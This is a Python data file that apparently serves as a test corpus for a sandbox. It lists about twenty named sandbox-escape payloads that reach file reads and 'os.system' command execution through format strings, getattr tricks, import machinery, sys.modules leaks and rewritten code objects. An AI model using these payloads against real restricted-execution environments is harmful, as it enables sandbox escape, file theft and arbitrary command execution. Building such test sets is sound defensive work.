"""Format strings and indirect getattr, import machinery, module-graph leaks, code objects."""

PAYLOADS = [
    ("formatter_get_field", "format_and_indirect_getattr", "read_file",
     "import string, json\n"
     "b = string.Formatter().get_field('0.__globals__[__builtins__]', [json.dumps], {})[0]\n"
     "pwned = b['open'](@S@).read()"),
    ("attrgetter", "format_and_indirect_getattr", "read_file",
     "import operator, json\nb = operator.attrgetter('__globals__')(json.dumps)['__builtins__']\n"
     "pwned = b['open'](@S@).read()"),
    ("object_getattribute", "format_and_indirect_getattr", "read_file",
     "import json\nb = object.__getattribute__(json.dumps, '__globals__')['__builtins__']\n"
     "pwned = b['open'](@S@).read()"),
    ("fstring_call", "format_and_indirect_getattr", "read_file",
     "import json\npwned = f\"{json.dumps.__globals__['__builtins__']['open'](@S@).read()}\""),
    ("reduce_getattr", "format_and_indirect_getattr", "read_file",
     "import functools, json\ng = functools.reduce(getattr, ['__globals__'], json.dumps)\n"
     "pwned = g['__builtins__']['open'](@S@).read()"),
    ("getattr_concat", "format_and_indirect_getattr", "read_file",
     "import json\ng = getattr(json.dumps, '__glob' + 'als__')\n"
     "pwned = g['__builtins__']['open'](@S@).read()"),
    ("importlib_import_module", "import_machinery", "run_command",
     "import importlib\nimportlib.import_module('os').system(@C@)"),
    ("pkgutil_resolve_name", "import_machinery", "run_command",
     "import pkgutil\npkgutil.resolve_name('os:system')(@C@)"),
    ("runpy_run_module", "import_machinery", "run_command",
     "import runpy\ng = runpy.run_module('subprocess')\ng['run'](@C@, shell=True)"),
    ("exec_module_copy", "import_machinery", "run_command",
     "import importlib.util\nspec = importlib.util.find_spec('os')\n"
     "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\nm.system(@C@)"),
    ("json_codecs_open", "module_graph_sys_modules", "read_file",
     "import json\npwned = json.codecs.open(@S@).read()"),
    ("fractions_sys", "module_graph_sys_modules", "run_command",
     "import fractions\nfractions.sys.modules['os'].system(@C@)"),
    ("sys_modules_poisoning", "module_graph_sys_modules", "run_command",
     "import json\njson.codecs.sys.modules['math'] = json.codecs.sys.modules['os']\n"
     "import math\nmath.system(@C@)"),
    ("re_enum_sys", "module_graph_sys_modules", "run_command",
     "import re\nre.enum.sys.modules['os'].system(@C@)"),
    ("typing_sys", "module_graph_sys_modules", "run_command",
     "import typing\ntyping.sys.modules['os'].system(@C@)"),
    ("dataclasses_inspect_os", "module_graph_sys_modules", "run_command",
     "import dataclasses\ndataclasses.inspect.os.system(@C@)"),
    ("co_names_rename", "code_objects", "read_file",
     "def f():\n    return OPEN(@S@)\n"
     "f.__code__ = f.__code__.replace(co_names=tuple('open' if n == 'OPEN' else n "
     "for n in f.__code__.co_names))\npwned = f().read()"),
    ("function_type_compile", "code_objects", "run_command",
     "import types, json\ncode = compile('import os; os.system(%r)' % @C@, 'x', 'exec')\n"
     "types.FunctionType(code, vars(json))()"),
    ("ast_build", "code_objects", "run_command",
     "import ast\ntree = ast.parse('import os; os.system(%r)' % @C@)\n"
     "exec(compile(tree, 'x', 'exec'), {})"),
    ("capability_rebound_globals", "code_objects", "read_file",
     "import types\nm = type(files).read\nfn = types.FunctionType(m.__code__, m.__globals__)\n"
     "class Fake:\n    def _within(self, p):\n        return p\npwned = fn(Fake(), @S@)"),
    ("string_annotation_eval", "code_objects", "run_command",
     "import typing\ndef h(x: \"__import__('os').system(\" + repr(@C@) + \")\"):\n    pass\n"
     "typing.get_type_hints(h)"),
]
